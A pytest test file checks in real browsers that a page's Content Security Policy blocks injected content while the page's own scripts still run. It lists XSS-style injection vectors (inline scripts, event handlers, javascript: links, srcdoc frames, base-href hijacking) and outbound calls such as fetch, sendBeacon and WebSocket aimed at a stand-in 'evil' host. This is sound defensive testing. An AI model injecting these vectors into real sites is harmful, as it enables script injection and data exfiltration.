"""The policy of a page in real browsers: what it is there to refuse does not happen, and what the page needs does."""

import pytest
from harm import Server

from literate.policy import CHARSET, LIVE, with_policy

pytestmark = pytest.mark.slow
# The page keeps a list of what ran; OTHER is another host. "known" and "über" are scripts of the page.
PAGE = f"""<!doctype html><html lang="en"><head>
{CHARSET}
<title>A page</title><link rel="icon" href="data:,"></head><body><noscript {LIVE}></noscript>
<script>window.ran = ["known"]</script>
<script>ran.push("über")</script>
<script src="own.js"></script>
<p style="color: rgb(1, 2, 3)">Text</p>
</body></html>
"""
ADDED = """
<script>ran.push("added")</script>
<img src="data:," onerror="ran.push('handler')">
<svg onload="ran.push('svg handler')"></svg>
<a id="link" href="javascript:ran.push('link')">Link</a>
<script src="OTHERevil.js"></script>
<link rel="stylesheet" href="OTHERevil.css">
<img src="OTHERevil.png">
<iframe src="OTHERevil.html"></iframe>
<iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
<object data="OTHERevil.svg"></object>
<embed src="OTHERevil.svg">
<video src="OTHERevil.mp4" autoplay></video>
<form id="form" action="OTHERevil" target="_blank"><button>Send</button></form>
<base href="OTHER">
<script src="relative.js"></script>
"""
WAYS = """
fetch("OTHERevil").catch(() => 0)
new XMLHttpRequest().open("GET", "OTHERevil")
(r => (r.open("GET", "OTHERevil"), r.send()))(new XMLHttpRequest())
new WebSocket("OTHERevil".replace("http", "ws"))
new EventSource("OTHERevil")
navigator.sendBeacon("OTHERevil", "x")
new Image().src = "OTHERevil"
new Worker("OTHERevil")
import("OTHERevil.js").catch(() => 0)
document.head.append(Object.assign(document.createElement("script"), {src: "OTHERevil.js"}))
document.head.append(Object.assign(document.createElement("script"), {textContent: "ran.push('element')"}))
document.body.setAttribute("onclick", "ran.push('attribute')") ?? document.body.click()
document.getElementById("link").click()
document.getElementById("form").requestSubmit()
eval("ran.push('eval')")
new Function("ran.push('Function')")()
setTimeout("ran.push('timeout')", 0)
""".strip().splitlines()
ADD = "void setTimeout(() => document.head.append(Object.assign(document.createElement('script'), {src: 'ADDRESS'})))"
WORKER = """new Promise(done => {
    const code = `(async () => {
        const tried = {};
        try { tried.eval = eval("1") } catch { tried.eval = "refused" }
        tried.fetch = await fetch("OTHERevil").then(() => "sent", () => "refused");
        tried.own = await fetch("${location.origin}/own.js").then(() => "fine", () => "refused");
        tried.wasm = await WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => "fine", () => "refused");
        tried.module = await import(URL.createObjectURL(new Blob(["export default 'fine'"], {type: "text/javascript"})))
            .then(made => made.default, () => "refused");
        postMessage(tried);
    })()`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})), {type: "module"});
    worker.onmessage = event => done(event.data);
    worker.onerror = event => done(String(event.message));
})"""


class Reader:
    """A page of one browser or the other."""

    def __init__(self, open_page, evaluate):
        self.open, self.evaluate = open_page, evaluate


@pytest.fixture(params=["chromium", "firefox"])
def reader(request):
    if request.param == "firefox":
        firefox = request.getfixturevalue("firefox")
        yield Reader(firefox.open, firefox.evaluate)
    else:
        page = request.getfixturevalue("browser").new_page()
        yield Reader(page.goto, page.evaluate)
        page.close()


@pytest.fixture
def own(tmp_path):
    (tmp_path / "own.js").write_text("ran.push('own')", encoding="utf-8")
    server = Server(tmp_path)
    yield server
    server.close()


@pytest.fixture
def other(tmp_path_factory):
    server = Server(tmp_path_factory.mktemp("other"))
    yield server
    server.close()


def shown(reader, own, html):
    """Have the page read, and give all in it the time to happen."""
    (own.folder / "index.html").write_text(html, encoding="utf-8")
    reader.open(f"{own.address}index.html")


def settle(reader):
    reader.evaluate("new Promise(done => setTimeout(done, 1000))")


def try_all(reader, own, other):
    """Try each way by a script of the page: what a test itself evaluates there is under no policy."""
    tries = "\n".join(f"try {{ {way.replace('OTHER', other.address)} }} catch {{}}" for way in WAYS)
    (own.folder / "tries.js").write_text(tries, encoding="utf-8")
    reader.evaluate(ADD.replace("ADDRESS", f"{own.address}tries.js"))
    settle(reader)
    assert "/tries.js" in own.asked


def test_what_the_page_has_runs_and_nothing_that_is_added(reader, own, other):
    added = ADDED.replace("OTHER", other.address)
    shown(reader, own, with_policy(PAGE, "").replace("</body>", f"{added}</body>"))
    settle(reader)
    assert reader.evaluate("ran") == ["known", "über", "own"]
    assert reader.evaluate("getComputedStyle(document.querySelector('p')).color") == "rgb(1, 2, 3)"
    try_all(reader, own, other)
    assert reader.evaluate("ran") == ["known", "über", "own"]
    assert reader.evaluate("location.href") == f"{own.address}index.html"
    assert other.asked == []


def test_without_a_policy_all_of_that_happens(reader, own, other):
    """So that the test above is known to see it."""
    shown(reader, own, PAGE.replace("</body>", f"{ADDED.replace('OTHER', other.address)}</body>"))
    settle(reader)
    try_all(reader, own, other)
    ran = set(reader.evaluate("ran"))
    assert ran >= {"added", "handler", "svg handler", "frame", "link", "element", "attribute", "eval", "Function", "timeout"}
    assert {"/evil.js", "/evil.css", "/evil.png", "/evil.html", "/evil", "/relative.js"} <= set(other.asked)


def test_a_script_that_is_changed_does_not_run(reader, own):
    shown(reader, own, with_policy(PAGE, "").replace('ran.push("über")', 'ran.push("Über")'))
    assert reader.evaluate("ran") == ["known", "own"]


def test_the_worker_has_the_policy_of_the_page_and_may_run_python(reader, own, other):
    shown(reader, own, with_policy(PAGE, ""))
    tried = reader.evaluate(WORKER.replace("OTHER", other.address))
    assert tried == {"eval": "refused", "fetch": "refused", "own": "fine", "wasm": "fine", "module": "fine"}
    assert other.asked == []


def test_a_page_without_code_runs_no_worker_from_a_blob_and_no_webassembly(reader, own, other):
    shown(reader, own, with_policy(PAGE.replace(LIVE, ""), ""))
    assert isinstance(reader.evaluate(f"Promise.resolve().then(() => {WORKER}).catch(error => String(error))"), str)
    compiled = "WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => 'fine', () => 'refused')"
    assert reader.evaluate(compiled) == "refused"


def test_python_may_come_from_the_one_address(reader, own, other):
    (other.folder / "full").mkdir()
    (other.folder / "full/python").write_text("bytes", encoding="utf-8")
    (other.folder / "python").write_text("bytes", encoding="utf-8")
    shown(reader, own, with_policy(PAGE, f"{other.address}full/"))
    asked = "fetch('{}', {{mode: 'no-cors'}}).then(() => 'fine', () => 'refused')"
    assert reader.evaluate(asked.format(f"{other.address}full/python")) == "fine"
    assert reader.evaluate(asked.format(f"{other.address}python")) == "refused"
    assert other.asked == ["/full/python"]
